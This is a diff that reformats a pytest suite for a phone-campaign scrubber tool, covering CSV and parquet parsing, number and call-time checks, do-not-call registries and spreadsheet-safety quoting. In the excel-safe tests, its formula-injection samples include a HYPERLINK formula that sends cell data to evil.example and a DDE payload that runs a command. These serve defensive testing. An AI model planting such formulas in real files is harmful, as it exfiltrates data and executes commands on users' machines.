@@ -52,7 +52,9 @@ def rows_of(*phones: str, at: str = SLOT) -> str:
 # --------------------------------------------------------------------------- empty, header, shape
 
 
-@pytest.mark.parametrize("content", [b"", b"\n", b"\r\n  \r\n"], ids=["zero-bytes", "one-newline", "blank-lines"])
+@pytest.mark.parametrize(
+    "content", [b"", b"\n", b"\r\n  \r\n"], ids=["zero-bytes", "one-newline", "blank-lines"]
+)
 def test_empty_file_is_an_input_error(content: bytes, tmp_path: Path) -> None:
     campaign = write_csv(tmp_path / "empty.csv", content)
     assert_input_error(scrub(campaign, tmp_path), campaign, "empty")
@@ -62,8 +64,12 @@ def test_header_only_gives_empty_outputs_with_the_columns(tmp_path: Path) -> Non
     campaign = write_csv(tmp_path / "header.csv", "phone,call_at,customer_id\n")
     res = scrub(campaign, tmp_path, summary=True)
     clean, rejects = assert_no_row_lost(res, 0)
-    assert clean.columns[:3] == ["phone", "call_at", "customer_id"] and "source_row" in clean.columns
-    assert rejects.columns[:3] == ["phone", "call_at", "customer_id"] and "reason" in rejects.columns
+    assert (
+        clean.columns[:3] == ["phone", "call_at", "customer_id"] and "source_row" in clean.columns
+    )
+    assert (
+        rejects.columns[:3] == ["phone", "call_at", "customer_id"] and "reason" in rejects.columns
+    )
     assert res.summary["rows_in"] == 0 and res.summary["kept"] == 0 and res.summary["rejected"] == 0
 
 
@@ -74,13 +80,18 @@ def test_file_without_header_is_refused_and_says_so(tmp_path: Path) -> None:
 
 
 def test_ragged_long_row_names_the_file_and_the_line(tmp_path: Path) -> None:
-    campaign = write_csv(tmp_path / "ragged.csv", HEADER + GOOD + f"0612345679,{SLOT},surplus\n" + rows_of("0612345670"))
+    campaign = write_csv(
+        tmp_path / "ragged.csv",
+        HEADER + GOOD + f"0612345679,{SLOT},surplus\n" + rows_of("0612345670"),
+    )
     assert_input_error(scrub(campaign, tmp_path), campaign, "line 3", "data row 2", "3 fields")
 
 
 def test_ragged_short_row_is_rejected_with_a_reason_not_lost(tmp_path: Path) -> None:
     """A row missing its trailing call_at field reads as an empty call_at."""
-    campaign = write_csv(tmp_path / "short.csv", HEADER + GOOD + "0612345679\n" + rows_of("0612345670"))
+    campaign = write_csv(
+        tmp_path / "short.csv", HEADER + GOOD + "0612345679\n" + rows_of("0612345670")
+    )
     clean, rejects = assert_no_row_lost(scrub(campaign, tmp_path), 3)
     r = row(rejects, 2)
     assert r["reason"] == "invalid_call_time" and "empty" in r["detail"]
@@ -93,19 +104,28 @@ def test_ragged_short_row_is_rejected_with_a_reason_not_lost(tmp_path: Path) -> 
     ids=["quote-opens-phone", "quote-opens-call_at"],
 )
 def test_unclosed_quote_is_an_input_error(bad_line: str, tmp_path: Path) -> None:
-    campaign = write_csv(tmp_path / "quotes.csv", HEADER + GOOD + bad_line + rows_of(*(f"06123456{i:02d}" for i in range(40))))
+    campaign = write_csv(
+        tmp_path / "quotes.csv",
+        HEADER + GOOD + bad_line + rows_of(*(f"06123456{i:02d}" for i in range(40))),
+    )
     assert_input_error(scrub(campaign, tmp_path), campaign, "quot")
 
 
 @pytest.mark.parametrize(
     "bad_line",
-    [f'"0612345679,{SLOT}\n', f'0612345679,2026-11-24"T10:30:00\n'],
+    [f'"0612345679,{SLOT}\n', '0612345679,2026-11-24"T10:30:00\n'],
     ids=["quote-never-closed", "stray-quote-inside-a-field"],
 )
-@pytest.mark.xfail(reason="known gap: the error names the line where the csv module gives up, not where the quote opens", strict=False)
+@pytest.mark.xfail(
+    reason="known gap: the error names the line where the csv module gives up, not where the quote opens",
+    strict=False,
+)
 def test_unbalanced_quote_error_names_the_line_of_the_quote(bad_line: str, tmp_path: Path) -> None:
     """The quote is on line 3 of a 43-line file: the user must be sent to line 3."""
-    campaign = write_csv(tmp_path / "quotes.csv", HEADER + GOOD + bad_line + rows_of(*(f"06123456{i:02d}" for i in range(40))))
+    campaign = write_csv(
+        tmp_path / "quotes.csv",
+        HEADER + GOOD + bad_line + rows_of(*(f"06123456{i:02d}" for i in range(40))),
+    )
     line = assert_input_error(scrub(campaign, tmp_path), campaign)
     assert re.search(r"\bline 3\b", line), f"does not point at line 3: {line}"
 
@@ -123,13 +143,18 @@ def test_quoted_embedded_newlines_are_kept_as_data(tmp_path: Path) -> None:
 @pytest.mark.parametrize("where", ["phone", "crm-field"])
 def test_nul_byte_is_an_input_error_naming_the_line(where: str, tmp_path: Path) -> None:
     bad = f"06123\x0045679,{SLOT},x\n" if where == "phone" else f'0612345679,{SLOT},"ab\x00c"\n'
-    campaign = write_csv(tmp_path / "nul.csv", "phone,call_at,note\n" + f"0612345678,{SLOT},x\n" + bad)
+    campaign = write_csv(
+        tmp_path / "nul.csv", "phone,call_at,note\n" + f"0612345678,{SLOT},x\n" + bad
+    )
     assert_input_error(scrub(campaign, tmp_path), campaign, "line 3", "NUL")
 
 
 def test_ten_megabyte_field_is_kept_intact(tmp_path: Path) -> None:
     big = "x" * 5_000_000 + "é" * 2_500_000  # 10 MB of UTF-8
-    campaign = write_csv(tmp_path / "bigfield.csv", f"phone,call_at,note\n0612345678,{SLOT},{big}\n0612345679,{SLOT},small\n")
+    campaign = write_csv(
+        tmp_path / "bigfield.csv",
+        f"phone,call_at,note\n0612345678,{SLOT},{big}\n0612345679,{SLOT},small\n",
+    )
     clean, _ = assert_no_row_lost(scrub(campaign, tmp_path), 2)
     assert len(row(clean, 1)["note"].encode("utf-8")) == 10_000_000
     assert row(clean, 1)["note"] == big
@@ -154,13 +179,18 @@ def test_duplicate_column_names_are_an_input_error(column: str, tmp_path: Path) 
     assert_input_error(scrub(campaign, tmp_path), campaign, repr(column), "twice")
 
 
-@pytest.mark.xfail(reason="the outputs' header is correct CSV (\"said \"\"hi\"\"\"\"); the check reads it back with polars, which keeps doubled quotes in header names", strict=False)
+@pytest.mark.xfail(
+    reason='the outputs\' header is correct CSV ("said ""hi""""); the check reads it back with polars, which keeps doubled quotes in header names',
+    strict=False,
+)
 def test_column_names_with_quotes_and_separators_survive(tmp_path: Path) -> None:
     """CRM column names are copied to both outputs as written: `said "hi"` must not
     come out as `said ""hi""` (and grow on every re-scrub)."""
     names = ["phone", "call_at", 'said "hi"', "comment, free text", "offre; remise"]
     buf = io.StringIO()
-    csv.writer(buf, lineterminator="\n").writerows([names, ["0612345678", SLOT, "a", "b", "c"], ["0800-FLOWERS", SLOT, "d", "e", "f"]])
+    csv.writer(buf, lineterminator="\n").writerows(
+        [names, ["0612345678", SLOT, "a", "b", "c"], ["0800-FLOWERS", SLOT, "d", "e", "f"]]
+    )
     campaign = write_csv(tmp_path / "names.csv", buf.getvalue())
     clean, rejects = assert_no_row_lost(scrub(campaign, tmp_path), 2)
     assert clean.columns[:5] == names and rejects.columns[:5] == names
@@ -168,7 +198,9 @@ def test_column_names_with_quotes_and_separators_survive(tmp_path: Path) -> None
 
 
 @pytest.mark.parametrize("header_sep,row_sep", [(";", ","), (",", ";")])
-def test_mixed_delimiters_reject_the_odd_row_not_lose_it(header_sep: str, row_sep: str, tmp_path: Path) -> None:
+def test_mixed_delimiters_reject_the_odd_row_not_lose_it(
+    header_sep: str, row_sep: str, tmp_path: Path
+) -> None:
     text = f"phone{header_sep}call_at\n0612345678{header_sep}{SLOT}\n0612345679{row_sep}{SLOT}\n0612345670{header_sep}{SLOT}\n"
     campaign = write_csv(tmp_path / "mixed.csv", text)
     clean, rejects = assert_no_row_lost(scrub(campaign, tmp_path), 3)
@@ -180,14 +212,18 @@ def test_mixed_delimiters_reject_the_odd_row_not_lose_it(header_sep: str, row_se
 
 
 def test_cp1252_without_encoding_points_at_the_option(tmp_path: Path) -> None:
-    campaign = write_csv(tmp_path / "cp1252.csv", f"phone,call_at,name\n0612345678,{SLOT},Hélène\n".encode("cp1252"))
+    campaign = write_csv(
+        tmp_path / "cp1252.csv", f"phone,call_at,name\n0612345678,{SLOT},Hélène\n".encode("cp1252")
+    )
     assert_input_error(scrub(campaign, tmp_path), campaign, "--encoding", "line 2")
     res = scrub(campaign, tmp_path, "--encoding", "cp1252")
     clean, _ = assert_no_row_lost(res, 1)
     assert row(clean, 1)["name"] == "Hélène"
 
 
-@pytest.mark.parametrize("bom,codec", [(b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be")], ids=["LE", "BE"])
+@pytest.mark.parametrize(
+    "bom,codec", [(b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be")], ids=["LE", "BE"]
+)
 def test_utf16_with_bom_is_read(bom: bytes, codec: str, tmp_path: Path) -> None:
     text = f"phone;call_at;name\r\n0612345678;{SLOT};Hélène Ægir 😀\r\n0612345679;{SLOT};Zoë\r\n"
     campaign = write_csv(tmp_path / "utf16.csv", bom + text.encode(codec))
@@ -210,13 +246,21 @@ def test_broken_gzip_is_an_input_error(cut: str, tmp_path: Path) -> None:
 
 
 def _parquet(path: Path, phones: pl.Series, times: list[str | None]) -> Path:
-    pl.DataFrame({"phone": phones, "call_at": pl.Series(times, dtype=pl.String), "customer_id": [f"C{i}" for i in range(len(times))]}).write_parquet(path)
+    pl.DataFrame(
+        {
+            "phone": phones,
+            "call_at": pl.Series(times, dtype=pl.String),
+            "customer_id": [f"C{i}" for i in range(len(times))],
+        }
+    ).write_parquet(path)
     return path
 
 
 def test_parquet_integer_phone_column_is_read_as_numbers(tmp_path: Path) -> None:
     """612345678 is 06 12 34 56 78 after a spreadsheet dropped the leading zero."""
-    campaign = _parquet(tmp_path / "int.parquet", pl.Series([612345678, 33612345679], dtype=pl.Int64), [SLOT, SLOT])
+    campaign = _parquet(
+        tmp_path / "int.parquet", pl.Series([612345678, 33612345679], dtype=pl.Int64), [SLOT, SLOT]
+    )
     consent = consent_file(tmp_path / "consent.csv", ["+33612345678", "+33612345679"])
     clean, _ = assert_no_row_lost(scrub(campaign, tmp_path, "--consent", str(consent)), 2)
     assert clean["phone_e164"].to_list() == ["+33612345678", "+33612345679"]
@@ -226,7 +270,11 @@ def test_parquet_float_phone_column_is_read_like_integers(tmp_path: Path) -> Non
     """A float column holding whole numbers (612345678.0, what pandas writes for an
     integer column with a gap) is the same number as the integer: a user expects
     the row kept as +33612345678, not rejected as invalid_number."""
-    campaign = _parquet(tmp_path / "float.parquet", pl.Series([612345678.0, 33612345679.0], dtype=pl.Float64), [SLOT, SLOT])
+    campaign = _parquet(
+        tmp_path / "float.parquet",
+        pl.Series([612345678.0, 33612345679.0], dtype=pl.Float64),
+        [SLOT, SLOT],
+    )
     consent = consent_file(tmp_path / "consent.csv", ["+33612345678", "+33612345679"])
     clean, rejects = assert_no_row_lost(scrub(campaign, tmp_path, "--consent", str(consent)), 2)
     assert rejects.height == 0, rejects.select("phone", "reason", "detail").to_dicts()
@@ -235,24 +283,41 @@ def test_parquet_float_phone_column_is_read_like_integers(tmp_path: Path) -> Non
 
 @pytest.mark.parametrize("dtype", [pl.String, pl.Int64])
 def test_parquet_null_phones_and_times_are_rejected_with_reasons(dtype, tmp_path: Path) -> None:
-    phones = {pl.String: ["0612345678", None, "0612345670"], pl.Int64: [612345678, None, 612345670]}[dtype]
-    campaign = _parquet(tmp_path / "nulls.parquet", pl.Series(phones, dtype=dtype), [SLOT, SLOT, None])
+    phones = {
+        pl.String: ["0612345678", None, "0612345670"],
+        pl.Int64: [612345678, None, 612345670],
+    }[dtype]
+    campaign = _parquet(
+        tmp_path / "nulls.parquet", pl.Series(phones, dtype=dtype), [SLOT, SLOT, None]
+    )
     consent = consent_file(tmp_path / "consent.csv", ["+33612345678", "+33612345670"])
     clean, rejects = assert_no_row_lost(scrub(campaign, tmp_path, "--consent", str(consent)), 3)
     assert clean["phone_e164"].to_list() == ["+33612345678"]
-    assert (row(rejects, 2)["reason"], row(rejects, 2)["detail"]) == ("invalid_number", "the phone number is empty")
-    assert (row(rejects, 3)["reason"], row(rejects, 3)["detail"]) == ("invalid_call_time", "call_at is empty")
+    assert (row(rejects, 2)["reason"], row(rejects, 2)["detail"]) == (
+        "invalid_number",
+        "the phone number is empty",
+    )
+    assert (row(rejects, 3)["reason"], row(rejects, 3)["detail"]) == (
+        "invalid_call_time",
+        "call_at is empty",
+    )
 
 
 def test_parquet_float_phone_column_with_nulls_rejects_them_as_empty(tmp_path: Path) -> None:
-    campaign = _parquet(tmp_path / "nulls.parquet", pl.Series([None, None], dtype=pl.Float64), [SLOT, None])
+    campaign = _parquet(
+        tmp_path / "nulls.parquet", pl.Series([None, None], dtype=pl.Float64), [SLOT, None]
+    )
     _, rejects = assert_no_row_lost(scrub(campaign, tmp_path), 2)
     assert rejects["reason"].to_list() == ["invalid_number"] * 2
     assert rejects["detail"].to_list() == ["the phone number is empty"] * 2
 
 
 def _baseline_csv() -> str:
-    return "phone,call_at,customer_id\n" + "".join(f"06123456{i:02d},{SLOT},C{i}\n" for i in range(5)) + f"0800-FLOWERS,{SLOT},C9\n"
+    return (
+        "phone,call_at,customer_id\n"
+        + "".join(f"06123456{i:02d},{SLOT},C{i}\n" for i in range(5))
+        + f"0800-FLOWERS,{SLOT},C9\n"
+    )
 
 
 def test_csv_named_file_holding_parquet_is_read_as_parquet(tmp_path: Path) -> None:
@@ -287,11 +352,17 @@ TIMES = {
     "iso-space": ("2026-11-24 10:30:00", ("kept", SLOT_OUT, "false")),
     "iso-Z": ("2026-11-24T09:30:00Z", ("kept", SLOT_OUT, "false")),
     "iso-offset": ("2026-11-24T10:30:00+01:00", ("kept", SLOT_OUT, "false")),
-    "date-only": ("2026-11-24", ("kept", "2026-11-24T10:00:00+01:00", "true")),  # midnight, moved to the first legal minute
+    "date-only": (
+        "2026-11-24",
+        ("kept", "2026-11-24T10:00:00+01:00", "true"),
+    ),  # midnight, moved to the first legal minute
     "french-dd/mm/yyyy": ("01/12/2026", ("rejected", "invalid_call_time")),
     "french-with-time": ("24/11/2026 10:30", ("rejected", "invalid_call_time")),
     "us-mm/dd/yyyy": ("11/24/2026 10:30 AM", ("rejected", "invalid_call_time")),
-    "far-past": ("1990-01-01T10:00:00", ("kept", "2026-11-23T10:00:00+01:00", "true")),  # moved to now, then the window
+    "far-past": (
+        "1990-01-01T10:00:00",
+        ("kept", "2026-11-23T10:00:00+01:00", "true"),
+    ),  # moved to now, then the window
     "far-future": ("2099-01-01T10:00:00", ("rejected", "invalid_call_time")),
     "month-13": ("2026-13-45T10:00:00", ("rejected", "invalid_call_time")),
     "hour-25": ("2026-11-24T25:00:00", ("rejected", "invalid_call_time")),
@@ -303,7 +374,9 @@ TIMES = {
 
 
 @pytest.fixture(scope="module")
-def times_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, int], pl.DataFrame, pl.DataFrame]:
+def times_run(
+    tmp_path_factory: pytest.TempPathFactory,
+) -> tuple[dict[str, int], pl.DataFrame, pl.DataFrame]:
     """One campaign with every spelling of call_at (distinct numbers), scrubbed once."""
     d = tmp_path_factory.mktemp("times")
     buf = io.StringIO()
@@ -323,12 +396,16 @@ def test_call_time_spellings(case: str, times_run) -> None:
     rows, clean, rejects = times_run
     text, expected = TIMES[case]
     if expected[0] == "kept":
-        assert rows[case] in [int(r) for r in clean["source_row"]], f"{text!r} was rejected: {row(rejects, rows[case])}"
+        assert rows[case] in [int(r) for r in clean["source_row"]], (
+            f"{text!r} was rejected: {row(rejects, rows[case])}"
+        )
         r = row(clean, rows[case])
         assert (r["call_at"], r["rescheduled"]) == expected[1:]
         assert r["original_call_at"] == text  # the user's spelling is kept
     else:
-        assert rows[case] in [int(r) for r in rejects["source_row"]], f"{text!r} was kept: {row(clean, rows[case])}"
+        assert rows[case] in [int(r) for r in rejects["source_row"]], (
+            f"{text!r} was kept: {row(clean, rows[case])}"
+        )
         r = row(rejects, rows[case])
         assert r["reason"] == expected[1]
         assert r["call_at"] == text
@@ -359,7 +436,9 @@ NUMBERS = {
 
 
 @pytest.fixture(scope="module")
-def numbers_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, int], pl.DataFrame, pl.DataFrame]:
+def numbers_run(
+    tmp_path_factory: pytest.TempPathFactory,
+) -> tuple[dict[str, int], pl.DataFrame, pl.DataFrame]:
     d = tmp_path_factory.mktemp("numbers")
     buf = io.StringIO()
     w = csv.writer(buf, lineterminator="\n")
@@ -378,12 +457,16 @@ def test_phone_number_spellings(case: str, numbers_run) -> None:
     rows, clean, rejects = numbers_run
     text, expected = NUMBERS[case]
     if expected[0] == "kept":
-        assert rows[case] in [int(r) for r in clean["source_row"]], f"{text!r} was rejected: {row(rejects, rows[case])}"
+        assert rows[case] in [int(r) for r in clean["source_row"]], (
+            f"{text!r} was rejected: {row(rejects, rows[case])}"
+        )
         r = row(clean, rows[case])
         assert r["phone_e164"] == expected[1]
         assert r["phone"] == text  # the CRM spelling survives
     else:
-        assert rows[case] in [int(r) for r in rejects["source_row"]], f"{text!r} was kept: {row(clean, rows[case])}"
+        assert rows[case] in [int(r) for r in rejects["source_row"]], (
+            f"{text!r} was kept: {row(clean, rows[case])}"
+        )
         assert row(rejects, rows[case])["reason"] == expected[1]
 
 
@@ -394,7 +477,15 @@ CAMPAIGN_3 = HEADER + rows_of("0612345678", "0612345679", "0612345670")
 
 def _with_registry(tmp_path: Path, registry: Path) -> tuple:
     campaign = write_csv(tmp_path / "campaign.csv", CAMPAIGN_3)
-    return campaign, scrub(campaign, tmp_path, "--registry", str(registry), "--registry-date", "2026-11-22", summary=True)
+    return campaign, scrub(
+        campaign,
+        tmp_path,
+        "--registry",
+        str(registry),
+        "--registry-date",
+        "2026-11-22",
+        summary=True,
+    )
 
 
 def test_registry_with_zero_rows_is_used_and_reported(tmp_path: Path) -> None:
@@ -403,15 +494,22 @@ def test_registry_with_zero_rows_is_used_and_reported(tmp_path: Path) -> None:
     clean, _ = assert_no_row_lost(res, 3)
     assert clean.height == 3
     assert res.summary["registry_check"] == "done"
-    assert res.summary["registries"] == [{"file": "bloctel.csv", "rows": 0, "numbers": 0, "invalid_rows": 0}]
+    assert res.summary["registries"] == [
+        {"file": "bloctel.csv", "rows": 0, "numbers": 0, "invalid_rows": 0}
+    ]
 
 
 def test_registry_bad_row_in_the_middle_is_counted_not_fatal(tmp_path: Path) -> None:
-    registry = write_csv(tmp_path / "bloctel.csv", "numero;date_inscription\n0611111111;2025-01-01\n06 12 ZZ 99;2025-01-02\n0612345679;2025-01-03\n")
+    registry = write_csv(
+        tmp_path / "bloctel.csv",
+        "numero;date_inscription\n0611111111;2025-01-01\n06 12 ZZ 99;2025-01-02\n0612345679;2025-01-03\n",
+    )
     _, res = _with_registry(tmp_path, registry)
     clean, rejects = assert_no_row_lost(res, 3)
     assert res.summary["registries"][0]["invalid_rows"] == 1
-    assert res.summary["registries"][0]["rows"] == 3 and res.summary["registries"][0]["numbers"] == 2
+    assert (
+        res.summary["registries"][0]["rows"] == 3 and res.summary["registries"][0]["numbers"] == 2
+    )
     # the row after the bad one is still applied
     assert row(rejects, 2)["reason"] == "registry"
     assert "unusable" in res.err and "ZZ" not in res.err
@@ -431,23 +529,85 @@ def test_unreadable_registry_is_an_input_error_naming_it(kind: str, tmp_path: Pa
 
 # --------------------------------------------------------------------------- property: generated campaigns
 
-GOOD_PHONES = st.integers(10_000_000, 99_999_999).map(lambda n: f"06{n}").flatmap(
-    lambda d: st.sampled_from([d, f"{d[:2]} {d[2:4]} {d[4:6]} {d[6:8]} {d[8:]}", f"+33{d[1:]}", f"0033 {d[1:]}", f"{d[:2]}.{d[2:4]}.{d[4:6]}.{d[6:8]}.{d[8:]}"])
+GOOD_PHONES = (
+    st.integers(10_000_000, 99_999_999)
+    .map(lambda n: f"06{n}")
+    .flatmap(
+        lambda d: st.sampled_from(
+            [
+                d,
+                f"{d[:2]} {d[2:4]} {d[4:6]} {d[6:8]} {d[8:]}",
+                f"+33{d[1:]}",
+                f"0033 {d[1:]}",
+                f"{d[:2]}.{d[2:4]}.{d[4:6]}.{d[6:8]}.{d[8:]}",
+            ]
+        )
+    )
 )
-BAD_PHONES = st.sampled_from(["0800-FLOWERS", "06 12 34 56 01;ext=12", "1" * 30, "", " ", "06182", "=1+1", "+1 415 555 2671", "0800 12 34 56", "0596 30 12 34", "abc", "+33 (0)6 12 34 56 04"])
+BAD_PHONES = st.sampled_from(
+    [
+        "0800-FLOWERS",
+        "06 12 34 56 01;ext=12",
+        "1" * 30,
+        "",
+        " ",
+        "06182",
+        "=1+1",
+        "+1 415 555 2671",
+        "0800 12 34 56",
+        "0596 30 12 34",
+        "abc",
+        "+33 (0)6 12 34 56 04",
+    ]
+)
 SLOTS = st.builds(
-    lambda day, hour, minute, shape: shape.format(d=f"2026-11-{day:02d}", h=f"{hour:02d}", m=f"{minute:02d}"),
-    st.integers(20, 30), st.integers(0, 23), st.sampled_from([0, 15, 30, 59]),
-    st.sampled_from(["{d}T{h}:{m}:00", "{d} {h}:{m}:00", "{d}T{h}:{m}:00Z", "{d}T{h}:{m}:00+01:00", "{d}"]),
+    lambda day, hour, minute, shape: shape.format(
+        d=f"2026-11-{day:02d}", h=f"{hour:02d}", m=f"{minute:02d}"
+    ),
+    st.integers(20, 30),
+    st.integers(0, 23),
+    st.sampled_from([0, 15, 30, 59]),
+    st.sampled_from(
+        ["{d}T{h}:{m}:00", "{d} {h}:{m}:00", "{d}T{h}:{m}:00Z", "{d}T{h}:{m}:00+01:00", "{d}"]
+    ),
 )
-BAD_TIMES = st.sampled_from(["", "01/12/2026", "1990-01-01T10:00:00", "2099-01-01T10:00:00", "2026-03-29T02:30:00", "soon", "=NOW()"])
+BAD_TIMES = st.sampled_from(
+    [
+        "",
+        "01/12/2026",
+        "1990-01-01T10:00:00",
+        "2099-01-01T10:00:00",
+        "2026-03-29T02:30:00",
+        "soon",
+        "=NOW()",
+    ]
+)
 CELL = st.one_of(
     st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12),
-    st.text(st.sampled_from(list(',;\t"\'\n\r =+-@aé0')), max_size=10),
-    st.sampled_from(['=HYPERLINK("http://x","y")', "+SUM(A1:A2)", "-1+2", "@x", '"', '""', "a,b", "line\nbreak", "\r\n"]),
+    st.text(st.sampled_from(list(",;\t\"'\n\r =+-@aé0")), max_size=10),
+    st.sampled_from(
+        [
+            '=HYPERLINK("http://x","y")',
+            "+SUM(A1:A2)",
+            "-1+2",
+            "@x",
+            '"',
+            '""',
+            "a,b",
+            "line\nbreak",
+            "\r\n",
+        ]
+    ),
 )
 # A quote in a column name is left out here: test_column_names_with_quotes_survive covers it.
-EXTRA_NAMES = ["customer_id", "note", "comment, free text", "offre; remise", "postal_code", "Prénom"]
+EXTRA_NAMES = [
+    "customer_id",
+    "note",
+    "comment, free text",
+    "offre; remise",
+    "postal_code",
+    "Prénom",
+]
 
 
 # CALLSCRUB_PROPERTY_SCALE=10 runs ten times the examples (as tests/test_properties.py).
@@ -468,12 +628,20 @@ def campaigns(draw):
     delimiter = draw(st.sampled_from([",", ";", "\t"]))
     # An unquoted \r before \n is a CRLF line end, not data: with "\n" lines every
     # field is quoted (csv.writer only quotes \r when it is in the line terminator).
-    style = draw(st.sampled_from([("\r\n", csv.QUOTE_MINIMAL), ("\r\n", csv.QUOTE_ALL), ("\n", csv.QUOTE_ALL)]))
+    style = draw(
+        st.sampled_from(
+            [("\r\n", csv.QUOTE_MINIMAL), ("\r\n", csv.QUOTE_ALL), ("\n", csv.QUOTE_ALL)]
+        )
+    )
     corruption = draw(st.sampled_from([None] * 6 + ["ragged", "nul", "unclosed-quote"]))
     return ["phone", "call_at", *extras], rows, delimiter, style, corruption
 
 
-@settings(max_examples=max(1, int(40 * SCALE)), deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+@settings(
+    max_examples=max(1, int(40 * SCALE)),
+    deadline=None,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+)
 @given(campaigns())
 def test_generated_campaigns_lose_no_row_and_keep_every_value(campaign) -> None:
     header, rows, delimiter, (terminator, quoting), corruption = campaign
@@ -513,7 +681,13 @@ def test_generated_campaigns_lose_no_row_and_keep_every_value(campaign) -> None:
 
 # --------------------------------------------------------------------------- spreadsheet safety (--excel-safe)
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+SUM(A1:A9)", "-1+2", "@x", "=cmd|' /C calc'!A0"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "+SUM(A1:A9)",
+    "-1+2",
+    "@x",
+    "=cmd|' /C calc'!A0",
+]
 PHONE_LIKE = "+33 6 12 34 56 78"
 
 
@@ -523,14 +697,23 @@ def _excel_campaign(tmp_path: Path) -> Path:
     w.writerow(["phone", "call_at", "note", "alt_phone"])
     for i, formula in enumerate(FORMULAS):
         kept = i % 2 == 0
-        w.writerow([PHONE_LIKE if i == 0 else f"06123456{i:02d}", SLOT if kept else "someday", formula, PHONE_LIKE])
+        w.writerow(
+            [
+                PHONE_LIKE if i == 0 else f"06123456{i:02d}",
+                SLOT if kept else "someday",
+                formula,
+                PHONE_LIKE,
+            ]
+        )
     w.writerow(["0612345699", SLOT, "plain text", "06 12 34 56 99"])
     return write_csv(tmp_path / "excel.csv", buf.getvalue())
 
 
 def test_excel_safe_quotes_formula_cells_in_both_csv_outputs(tmp_path: Path) -> None:
     campaign = _excel_campaign(tmp_path)
-    clean, rejects = assert_no_row_lost(scrub(campaign, tmp_path, "--excel-safe"), len(FORMULAS) + 1)
+    clean, rejects = assert_no_row_lost(
+        scrub(campaign, tmp_path, "--excel-safe"), len(FORMULAS) + 1
+    )
     assert clean.height >= 2 and rejects.height >= 2  # formulas in both outputs
     for i, formula in enumerate(FORMULAS, start=1):
         r = row(clean, i) if i in [int(x) for x in clean["source_row"]] else row(rejects, i)
@@ -541,7 +724,9 @@ def test_excel_safe_quotes_formula_cells_in_both_csv_outputs(tmp_path: Path) -> 
     assert last["note"] == "plain text" and last["alt_phone"] == "06 12 34 56 99"
     for frame in (clean, rejects):  # nothing else starts with a formula character
         for col in frame.columns:
-            assert not any(v and v[0] in "=+-@" and not v.startswith("+33") for v in frame[col].to_list()), (col, frame[col].to_list())
+            assert not any(
+                v and v[0] in "=+-@" and not v.startswith("+33") for v in frame[col].to_list()
+            ), (col, frame[col].to_list())
 
 
 def test_without_excel_safe_cells_are_written_as_given(tmp_path: Path) -> None:
@@ -554,11 +739,15 @@ def test_without_excel_safe_cells_are_written_as_given(tmp_path: Path) -> None:
 def test_excel_safe_leaves_parquet_outputs_unchanged(tmp_path: Path) -> None:
     campaign = _excel_campaign(tmp_path)
     plain = scrub(campaign, tmp_path, out="plain_clean.parquet", rejects="plain_rej.parquet")
-    safe = scrub(campaign, tmp_path, "--excel-safe", out="safe_clean.parquet", rejects="safe_rej.parquet")
+    safe = scrub(
+        campaign, tmp_path, "--excel-safe", out="safe_clean.parquet", rejects="safe_rej.parquet"
+    )
     assert plain.code == 0 and safe.code == 0, (plain.err, safe.err)
     assert safe.clean.equals(plain.clean) and safe.rejects.equals(plain.rejects)
     assert set(FORMULAS) <= set(safe.clean["note"].to_list()) | set(safe.rejects["note"].to_list())
-    mixed = scrub(campaign, tmp_path, "--excel-safe", out="mixed_clean.csv", rejects="mixed_rej.parquet")
+    mixed = scrub(
+        campaign, tmp_path, "--excel-safe", out="mixed_clean.csv", rejects="mixed_rej.parquet"
+    )
     assert mixed.code == 0, mixed.err
     assert all(v.startswith("'") for v in mixed.clean["note"].to_list() if v != "plain text")
     assert mixed.rejects.equals(plain.rejects)
@@ -583,7 +772,10 @@ BROKEN_WITH_NUMBERS = {
     "stray-quote": (HEADER + f'{SECRET}",{SLOT}\n' + GOOD, ()),
     "nul": (HEADER + f"{SECRET}\x00,{SLOT}\n", ()),
     "cp1252": (f"phone,call_at,name\n{SECRET},{SLOT},Hélène\n".encode("cp1252"), ()),
-    "wrong-encoding-option": (f"phone,call_at,name\n{SECRET},{SLOT},名前\n", ("--encoding", "ascii")),
+    "wrong-encoding-option": (
+        f"phone,call_at,name\n{SECRET},{SLOT},名前\n",
+        ("--encoding", "ascii"),
+    ),
 }
 
 
@@ -599,13 +791,31 @@ def test_errors_never_quote_phone_numbers(case: str, tmp_path: Path) -> None:
 
 def test_summary_names_rows_never_numbers(tmp_path: Path) -> None:
     other, short, late, listed = "0687412358", "06 87 41 23 5", "0687412357", "0687412356"
-    text = HEADER + f"{SECRET},{SLOT}\n{SECRET},{SLOT}\n{short},{SLOT}\n{late},01/12/2026\n{listed},{SLOT}\n{other},{SLOT}\n"
+    text = (
+        HEADER
+        + f"{SECRET},{SLOT}\n{SECRET},{SLOT}\n{short},{SLOT}\n{late},01/12/2026\n{listed},{SLOT}\n{other},{SLOT}\n"
+    )
     campaign = write_csv(tmp_path / "campaign.csv", text)
     registry = write_csv(tmp_path / "dnc.csv", f"numero\n{listed}\nn/a\n")
-    res = scrub(campaign, tmp_path, "--registry", str(registry), "--registry-date", "2026-11-22", summary=True)
+    res = scrub(
+        campaign,
+        tmp_path,
+        "--registry",
+        str(registry),
+        "--registry-date",
+        "2026-11-22",
+        summary=True,
+    )
     clean, rejects = assert_no_row_lost(res, 6)
-    assert [row(rejects, i)["reason"] for i in (2, 3, 4, 5)] == ["duplicate", "invalid_number", "invalid_call_time", "registry"]
-    assert "source_row 1" in row(rejects, 2)["detail"]  # the duplicate names the row it repeats, by source_row
+    assert [row(rejects, i)["reason"] for i in (2, 3, 4, 5)] == [
+        "duplicate",
+        "invalid_number",
+        "invalid_call_time",
+        "registry",
+    ]
+    assert (
+        "source_row 1" in row(rejects, 2)["detail"]
+    )  # the duplicate names the row it repeats, by source_row
     assert res.summary["registries"][0]["invalid_rows"] == 1
     for text_out in (res.err, res.summary_path.read_text(encoding="utf-8")):
         _no_phone_on(text_out, SECRET, other, late, listed, "0687412350")
